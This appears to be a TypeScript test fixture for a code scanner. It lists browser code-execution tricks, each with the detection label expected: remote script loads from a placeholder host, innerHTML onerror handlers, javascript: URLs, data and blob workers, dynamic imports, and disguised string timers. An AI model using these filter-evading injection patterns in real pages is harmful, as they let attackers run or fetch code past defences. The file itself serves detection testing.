import type { Evasion } from './evasion.js';

/** Ways to run code in a page. */
export const BROWSER: readonly Evasion[] = [
  ['script.src', 'const s = document.createElement("script"); s.src = "https://example.invalid/x.js"', 'remote-code'],
  ['script, upper case', 'const s = document.createElement("SCRIPT"); s.src = "//example.invalid/x.js"', 'remote-code'],
  ['document.write', 'document.write("<script src=//example.invalid/x.js><\\/script>")', 'kept or remote-code'],
  ['innerHTML handler', 'document.body.innerHTML = "<img src=x onerror=\\"alert(1)\\">"', 'kept or dynamic-code'],
  ['javascript: address', 'location.href = "javascript:" + t', 'kept or dynamic-code or string-timer'],
  ['window.open', 'window.open("javascript:alert(1)")', 'kept or dynamic-code or string-timer'],
  ['worker of data', 'new Worker("data:text/javascript,1")', 'remote-code'],
  ['worker of a blob', 'new Worker(URL.createObjectURL(new Blob([t])))', 'kept or dynamic-code or remote-code'],
  ['importScripts', 'importScripts("https://example.invalid/x.js")', 'remote-code'],
  ['importScripts, second', 'importScripts("a.js", "https://example.invalid/x.js")', 'remote-code'],
  ['import of data', 'import("data:text/javascript,1")', 'remote-code'],
  ['import of https', 'import("https://example.invalid/x.js")', 'remote-code'],
  ['static import of https', 'import "https://example.invalid/x.js"', 'remote-code'],
  ['import of a variable server', 'import("https://" + t + "/x.js")', 'remote-code'],
  ['timer', 'window["set" + "Timeout"]("alert(1)")', 'string-timer'],
  ['timer alias', 'const s = setTimeout; s("alert(1)", 1)', 'string-timer'],
  ['timer call', 'setTimeout.call(window, "alert(1)")', 'string-timer'],
  ['timer of a join', 'setTimeout(["alert", "(1)"].join(""))', 'string-timer'],
  ['srcdoc', 'const f = document.createElement("iframe"); f.srcdoc = "<script>" + t + "<\\/script>"', 'kept or dynamic-code'],
];
